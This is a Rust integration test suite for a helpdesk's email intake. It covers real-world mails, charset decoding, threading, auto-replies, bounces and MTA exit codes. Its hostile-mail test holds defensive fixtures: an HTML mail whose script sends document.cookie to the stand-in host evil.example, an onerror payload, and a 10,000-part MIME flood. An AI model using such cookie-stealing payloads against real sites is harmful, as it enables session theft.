//! Email for real (issue 20): raw RFC 5322 mail through `frontdesk mail-in`
//! and the email webhook. A corpus of real-world mails the project did not
//! write (`tests/data/mail`, see its README), a threaded exchange,
//! auto-replies and bounces, hostile mail, and the exit codes MTAs read.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use mail_parser::MessageParser;
use serde_json::{Value, json};

use crate::harness::{BIN, Server, repo, workdir};

const SECRET: &str = "mail-secret";

/// The email channel with room for raw mail (limits an admin taking raw
/// MIME would set), and a rule that tags every message it sees.
fn start(dir: &Path) -> Server {
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::write(
        dir.join("scripts/10-seen.rhai"),
        "fn on_message(ticket, message, customer) { add_tag(\"rule-saw-it\"); }\n",
    )
    .unwrap();
    let config = format!(
        "[server]\nmax_body_bytes = 2097152\n\n[plugins.email]\nsecret = \"{SECRET}\"\ntimeout = \"5s\"\nmax_inbound_bytes = 2097152\n"
    );
    Server::start_with(dir, &config)
}

/// What `mail-in` did with one message: exit code, stdout, stderr.
struct Delivery {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Delivery {
    /// The server's answer for the one message delivered.
    fn answer(&self) -> Value {
        let answer: Value = serde_json::from_str(&self.stdout).unwrap_or_else(|e| panic!("{e}: {}", self.stdout));
        answer["messages"][0].clone()
    }
}

fn mail_in(dir: &Path, url: &str, raw: &[u8]) -> Delivery {
    let token_file = dir.join("email.secret");
    if !token_file.exists() {
        std::fs::write(&token_file, format!("{SECRET}\n")).unwrap();
    }
    mail_in_with(url, &token_file, raw)
}

fn mail_in_with(url: &str, token_file: &Path, raw: &[u8]) -> Delivery {
    let mut child = Command::new(BIN)
        .args(["mail-in", "--url", url, "--token-file"])
        .arg(token_file)
        .args(["--plugin", "email", "--timeout-secs", "20"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // A child that exits early closes its stdin; that is its answer, not ours.
    let _ = child.stdin.take().unwrap().write_all(raw);
    let output = child.wait_with_output().unwrap();
    Delivery {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

/// An id as the API gives it (a string), for a path.
fn plain(id: &Value) -> String {
    id.as_str().map_or_else(|| id.to_string(), str::to_owned)
}

fn events(server: &Server, case: &Value) -> Vec<Value> {
    let (status, body) = server.get(&format!("/api/v1/cases/{}/events", plain(case)));
    assert_eq!(status, 200, "{body}");
    body["events"].as_array().unwrap().clone()
}

fn of_type<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["type"] == kind).collect()
}

fn case(server: &Server, id: &Value) -> Value {
    let (status, body) = server.get(&format!("/api/v1/cases/{}", plain(id)));
    assert_eq!(status, 200, "{body}");
    body
}

/// Whitespace-insensitive: the server trims quotes and signatures and the
/// parser unfolds lines, so words are what must survive.
fn words(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn real_world_mails_become_cases_or_are_refused_with_a_reason() {
    let dir = workdir();
    let server = start(dir.path());
    let corpus = repo().join("tests/data/mail");
    let mut files: Vec<_> = std::fs::read_dir(&corpus)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "eml"))
        .collect();
    files.sort();
    assert!(files.len() >= 40, "the corpus has {} mails", files.len());

    let (mut accepted, mut refused) = (0, 0);
    for path in &files {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let raw = std::fs::read(path).unwrap();
        let delivery = mail_in(dir.path(), &server.base, &raw);
        match delivery.code {
            0 => accepted += 1,
            65 => {
                refused += 1;
                // Refused by the server, and it says why.
                assert!(delivery.stderr.contains("refused the message (400)"), "{name}: {}", delivery.stderr);
                assert!(delivery.stderr.trim_end().len() > "refused the message (400): ".len() + 20, "{name}");
                continue;
            }
            code => panic!("{name}: exit {code}, never a server failure: {}", delivery.stderr),
        }
        let answer = delivery.answer();
        let found = case(&server, &answer["case_id"]);
        let mail = MessageParser::default().parse(&raw).unwrap();

        // The right sender: the customer is known by the From address.
        let (_, customer) = server.get(&format!("/api/v1/customers/{}", found["customer_id"].as_str().unwrap()));
        if let Some(from) = mail.from().and_then(|a| a.first()).and_then(|a| a.address()) {
            let identities = customer.to_string().to_lowercase();
            assert!(identities.contains(&from.to_lowercase()), "{name}: sender {from} not in {customer}");
        }
        // The decoded subject, when the mail opened the case.
        if answer["created"] == true
            && let Some(subject) = mail.subject().map(str::trim).filter(|s| !s.is_empty())
        {
            let expected: String = words(subject).chars().take(100).collect();
            assert!(words(found["subject"].as_str().unwrap()).starts_with(&expected), "{name}: {found}");
        }
        // The body: its message is on the case, decoded.
        let timeline = events(&server, &answer["case_id"]);
        let received: Vec<String> = timeline
            .iter()
            .filter(|e| e["type"] == "message_received" || e["type"] == "reply_bounced")
            .map(|e| e["data"]["body"].as_str().unwrap_or_default().to_owned())
            .collect();
        assert!(!received.is_empty(), "{name}: no message on case {}", answer["case_id"]);
        let first_line = mail
            .body_text(0)
            .and_then(|t| t.lines().map(str::trim).find(|l| l.len() > 3 && !l.starts_with('>')).map(str::to_owned));
        if let Some(line) = first_line.filter(|_| mail.html_body_count() == 0 || mail.text_body_count() > 0) {
            let line = words(&line);
            let snippet: String = line.chars().take(30).collect();
            assert!(
                received.iter().any(|body| words(body).contains(&snippet))
                    || timeline.iter().any(|e| words(&e["data"]["via"]["full_body"].to_string()).contains(&snippet)),
                "{name}: {snippet:?} not in {received:?}"
            );
        }
        // Delivered again (an MTA retrying): recorded once.
        let again = mail_in(dir.path(), &server.base, &raw);
        assert_eq!(again.code, 0, "{name}: {}", again.stderr);
        assert_eq!(again.answer()["duplicate"], true, "{name}");
        assert_eq!(again.answer()["case_id"], answer["case_id"], "{name}");
    }
    assert!(accepted >= 30, "accepted {accepted}, refused {refused}");
    assert_eq!(accepted + refused, files.len());
}

#[test]
fn encoded_names_subjects_and_charsets_are_decoded() {
    let dir = workdir();
    let server = start(dir.path());
    let raw = "From: =?ISO-8859-1?Q?Andr=E9?= Pirard <PIRARD@vm1.ulg.ac.be>\r\n\
        Subject: =?ISO-2022-JP?B?GyRCJUYlOSVIGyhC?= and =?utf-8?q?caf=C3=A9?=\r\n\
        Message-ID: <charset-1@ulg.ac.be>\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
        --alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>HTML version</p>\r\n\
        --alt\r\nContent-Type: text/plain; charset=koi8-r\r\nContent-Transfer-Encoding: base64\r\n\r\n\
         8NLJ18XULCDE0tXH\r\n--alt--\r\n";
    let delivery = mail_in(dir.path(), &server.base, raw.as_bytes());
    assert_eq!(delivery.code, 0, "{}", delivery.stderr);
    let answer = delivery.answer();
    let found = case(&server, &answer["case_id"]);
    assert_eq!(found["subject"], "テスト and café");
    let timeline = events(&server, &answer["case_id"]);
    assert_eq!(of_type(&timeline, "message_received")[0]["data"]["body"], "Привет, друг");
    let (_, customer) = server.get(&format!("/api/v1/customers/{}", found["customer_id"].as_str().unwrap()));
    assert_eq!(customer["name"], "André Pirard", "{customer}");
}

/// A reply the server sent on `case`: its `Message-ID`.
fn agent_reply(server: &Server, case: &Value, text: &str) -> String {
    let (status, body) =
        server.post(&format!("/api/v1/cases/{}/messages", plain(case)), json!({"type": "reply", "body": text}));
    assert_eq!(status, 201, "{body}");
    let timeline = events(server, case);
    let reply = of_type(&timeline, "reply_sent").last().unwrap()["id"].clone();
    format!("<case-{}.{}@frontdesk>", plain(case), plain(&reply))
}

#[test]
fn a_reply_from_a_common_client_threads_without_references() {
    let dir = workdir();
    let server = start(dir.path());
    let first = "From: Ann Example <ann@example.com>\r\nTo: support@acme.example\r\n\
        Subject: Printer on fire\r\nMessage-ID: <first@mail.example.com>\r\n\
        Content-Type: text/plain; charset=utf-8\r\n\r\nIt is smoking.\r\n";
    let opened = mail_in(dir.path(), &server.base, first.as_bytes()).answer();
    assert_eq!(opened["created"], true);
    let id = opened["case_id"].clone();
    let ours = agent_reply(&server, &id, "Please unplug it.");

    // Thunderbird-style: `Re:` and a changed subject, In-Reply-To only, the
    // answer above the quote.
    let reply = format!(
        "From: Ann Example <ann@example.com>\r\nTo: support@acme.example\r\n\
         Subject: Re: the printer (now the desk too)\r\nMessage-ID: <second@mail.example.com>\r\n\
         In-Reply-To: {ours}\r\nUser-Agent: Mozilla Thunderbird\r\n\
         Content-Type: text/plain; charset=utf-8; format=flowed\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
         Unplugged, still smoking. The desk is warm=\r\n too.\r\n\r\n\
         On 02/03/2026 09:00, Support wrote:\r\n> Please unplug it.\r\n"
    );
    let threaded = mail_in(dir.path(), &server.base, reply.as_bytes()).answer();
    assert_eq!(threaded["case_id"], id, "{threaded}");
    assert_eq!(threaded["created"], false);
    let timeline = events(&server, &id);
    let received = of_type(&timeline, "message_received");
    assert_eq!(received.len(), 2);
    assert_eq!(received[1]["data"]["body"], "Unplugged, still smoking. The desk is warm too.");
    assert!(received[1]["data"]["via"]["full_body"].as_str().unwrap().contains("> Please unplug it."));
    assert_eq!(case(&server, &id)["status"], "open");
}

#[test]
fn auto_replies_change_nothing_and_run_no_rules() {
    let dir = workdir();
    let server = start(dir.path());
    let first =
        "From: bo@example.com\r\nSubject: Invoice wrong\r\nMessage-ID: <inv1@example.com>\r\n\r\nThe total is off.\r\n";
    let id = mail_in(dir.path(), &server.base, first.as_bytes()).answer()["case_id"].clone();
    assert!(case(&server, &id)["tags"].to_string().contains("rule-saw-it"), "rules run on mail a person wrote");
    let (status, body) =
        server.patch(&format!("/api/v1/cases/{}", plain(&id)), json!({"tags": {"remove": ["rule-saw-it"]}}));
    assert_eq!(status, 200, "{body}");
    let ours = agent_reply(&server, &id, "Which line?");
    let (status, body) = server.patch(&format!("/api/v1/cases/{}", plain(&id)), json!({"status": "pending"}));
    assert_eq!(status, 200, "{body}");

    let out_of_office = format!(
        "From: bo@example.com\r\nSubject: Automatic reply: Re: Invoice wrong\r\n\
         Message-ID: <ooo1@example.com>\r\nIn-Reply-To: {ours}\r\nAuto-Submitted: auto-replied\r\n\
         X-Auto-Response-Suppress: All\r\n\r\nI am out of the office until Monday.\r\n"
    );
    let answer = mail_in(dir.path(), &server.base, out_of_office.as_bytes()).answer();
    assert_eq!(answer["case_id"], id);
    assert_eq!(answer["kind"], "auto_reply");
    let after = case(&server, &id);
    assert_eq!(after["status"], "pending", "an auto-reply does not reopen: {after}");
    assert!(!after["tags"].to_string().contains("rule-saw-it"), "no rule ran: {after}");
    let timeline = events(&server, &id);
    let recorded = of_type(&timeline, "message_received");
    let last = recorded.last().unwrap();
    assert_eq!(last["data"]["via"]["auto_reply"], "Auto-Submitted: auto-replied", "{last}");
    assert_eq!(of_type(&timeline, "reply_sent").len(), 1, "nothing answered the robot");

    // Bulk mail that threads nowhere opens a case, tagged, with no rules run.
    let bulk = "From: news@shop.example\r\nSubject: Our summer sale\r\nMessage-ID: <n1@shop.example>\r\n\
        Precedence: bulk\r\nList-Unsubscribe: <mailto:u@shop.example>\r\n\r\nEverything must go.\r\n";
    let answer = mail_in(dir.path(), &server.base, bulk.as_bytes()).answer();
    assert_eq!(answer["created"], true);
    let opened = case(&server, &answer["case_id"]);
    assert_eq!(opened["tags"], json!(["auto-reply"]), "{opened}");
}

#[test]
fn a_bounce_is_recorded_on_the_case_it_bounces() {
    let dir = workdir();
    let server = start(dir.path());
    let first =
        "From: Cy <cy@example.com>\r\nSubject: Cannot log in\r\nMessage-ID: <c1@example.com>\r\n\r\nLocked out.\r\n";
    let id = mail_in(dir.path(), &server.base, first.as_bytes()).answer()["case_id"].clone();
    let ours = agent_reply(&server, &id, "Try the reset link.");
    let status_before = case(&server, &id)["status"].clone();

    let dsn = format!(
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.net>\r\nTo: support@acme.example\r\n\
         Subject: Undelivered Mail Returned to Sender\r\nMessage-ID: <dsn-1@mx.example.net>\r\n\
         Auto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/report; report-type=delivery-status; boundary=\"R\"\r\n\r\n\
         --R\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered to one or more recipients.\r\n\
         --R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.net\r\n\r\n\
         Final-Recipient: rfc822; cy@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n\
         Diagnostic-Code: smtp; 550 5.1.1 User unknown\r\n\
         --R\r\nContent-Type: text/rfc822-headers\r\n\r\nFrom: support@acme.example\r\nTo: cy@example.com\r\n\
         Subject: Re: Cannot log in\r\nMessage-ID: {ours}\r\n--R--\r\n"
    );
    let answer = mail_in(dir.path(), &server.base, dsn.as_bytes()).answer();
    assert_eq!(answer["case_id"], id, "{answer}");
    assert_eq!(answer["created"], false);
    assert_eq!(answer["kind"], "bounce");
    let timeline = events(&server, &id);
    let bounce = of_type(&timeline, "reply_bounced");
    assert_eq!(bounce.len(), 1, "{timeline:?}");
    let data = &bounce[0]["data"];
    assert_eq!(data["recipients"], json!(["cy@example.com"]));
    assert_eq!(data["permanent"], true);
    assert_eq!(data["status"], "5.1.1");
    assert_eq!(data["diagnostic"], "550 5.1.1 User unknown");
    assert_eq!(of_type(&timeline, "message_received").len(), 1, "not a customer message");
    assert_eq!(case(&server, &id)["status"], status_before);
    // Recorded by the channel, not as a message from the mailer daemon.
    assert!(bounce[0]["actor"].as_str().unwrap().starts_with("plugin:email"), "{}", bounce[0]);
}

#[test]
fn hostile_mail_is_refused_or_made_safe_and_the_server_stays_up() {
    let dir = workdir();
    let server = start(dir.path());

    // A boundary that never comes: the rest is one part, kept as text.
    let broken = "From: eve@example.com\r\nSubject: broken\r\nMessage-ID: <h1@example.com>\r\n\
        Content-Type: multipart/mixed; boundary=\"never\"\r\n\r\n--nope\r\nContent-Type: text/plain\r\n\r\nhello\r\n";
    let delivery = mail_in(dir.path(), &server.base, broken.as_bytes());
    assert!(delivery.code == 0 || delivery.code == 65, "{}", delivery.stderr);

    // 10,000 MIME parts.
    let mut many = String::from(
        "From: eve@example.com\r\nSubject: parts\r\nMessage-ID: <h2@example.com>\r\nContent-Type: multipart/mixed; boundary=\"p\"\r\n\r\n",
    );
    for i in 0..10_000 {
        many.push_str(&format!("--p\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n"));
    }
    many.push_str("--p--\r\n");
    let delivery = mail_in(dir.path(), &server.base, many.as_bytes());
    assert!(delivery.code == 0 || delivery.code == 65, "exit {}: {}", delivery.code, delivery.stderr);

    // HTML with script: the script never reaches the case.
    let html = "From: eve@example.com\r\nSubject: html\r\nMessage-ID: <h3@example.com>\r\nContent-Type: text/html\r\n\r\n\
        <p>Hi</p><script>document.location='https://evil.example/'+document.cookie</script><img src=x onerror=alert(1)>\r\n";
    let delivery = mail_in(dir.path(), &server.base, html.as_bytes());
    assert_eq!(delivery.code, 0, "{}", delivery.stderr);
    let timeline = events(&server, &delivery.answer()["case_id"]);
    let text = timeline.iter().map(|e| e["data"].to_string()).collect::<String>();
    assert!(!text.contains("document.cookie") && !text.contains("onerror"), "{text}");

    // Over the limit: refused, and says so.
    let mut huge = String::from("From: eve@example.com\r\nSubject: huge\r\nMessage-ID: <h4@example.com>\r\n\r\n");
    huge.push_str(&"x".repeat(3 << 20));
    let delivery = mail_in(dir.path(), &server.base, huge.as_bytes());
    assert_eq!(delivery.code, 65, "{}", delivery.stderr);
    assert!(delivery.stderr.contains("413"), "{}", delivery.stderr);

    // Not a mail at all.
    let delivery = mail_in(dir.path(), &server.base, b"\x00\x01\x02 garbage");
    assert_eq!(delivery.code, 65, "{}", delivery.stderr);

    let (status, _) = server.get("/healthz");
    assert_eq!(status, 200);
}

#[test]
fn mail_in_exit_codes_tell_the_mta_what_to_do() {
    let dir = workdir();
    let server = start(dir.path());
    let mail = b"From: ann@example.com\r\nSubject: hi\r\n\r\nhello\r\n";

    // Nothing listens there: retry later.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", closed.local_addr().unwrap());
    drop(closed);
    let delivery = mail_in(dir.path(), &url, mail);
    assert_eq!(delivery.code, 75, "{}", delivery.stderr);

    // A wrong secret is a setup problem: keep the mail queued.
    let wrong = dir.path().join("wrong.secret");
    std::fs::write(&wrong, "not-it\n").unwrap();
    assert_eq!(mail_in_with(&server.base, &wrong, mail).code, 75);
    // No secret file, or nothing on stdin.
    assert_eq!(mail_in_with(&server.base, &dir.path().join("missing"), mail).code, 66);
    assert_eq!(mail_in(dir.path(), &server.base, b"").code, 66);
    // Delivered.
    let delivery = mail_in(dir.path(), &server.base, mail);
    assert_eq!(delivery.code, 0, "{}", delivery.stderr);
    assert_eq!(delivery.answer()["created"], true);
}

#[test]
fn provider_raw_mime_forms_are_taken_too() {
    let dir = workdir();
    let server = start(dir.path());
    let raw = "From: Di <di@example.com>\r\nSubject: via SendGrid\r\nMessage-ID: <sg1@example.com>\r\n\r\nHello from a form.\r\n";
    for (field, id) in [("email", "<sg1@example.com>"), ("body-mime", "<mg1@example.com>")] {
        let raw = raw.replace("<sg1@example.com>", id);
        let body = format!(
            "--FORM\r\nContent-Disposition: form-data; name=\"to\"\r\n\r\nsupport@acme.example\r\n\
             --FORM\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{raw}\r\n--FORM--\r\n"
        );
        let signature = crate::plugin_kit::sign(SECRET, body.as_bytes());
        let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
        let mut response = agent
            .post(format!("{}/api/v1/channels/email/inbound", server.base))
            .header("Content-Type", "multipart/form-data; boundary=FORM")
            .header("X-Frontdesk-Signature", &signature)
            .send(body.as_bytes())
            .unwrap();
        let status = response.status().as_u16();
        let answer: Value = serde_json::from_str(&response.body_mut().read_to_string().unwrap()).unwrap();
        assert_eq!(status, 202, "{field}: {answer}");
        assert_eq!(answer["messages"][0]["message_id"], id, "{answer}");
        let timeline = events(&server, &answer["messages"][0]["case_id"]);
        assert_eq!(of_type(&timeline, "message_received")[0]["data"]["body"], "Hello from a form.");
    }
}
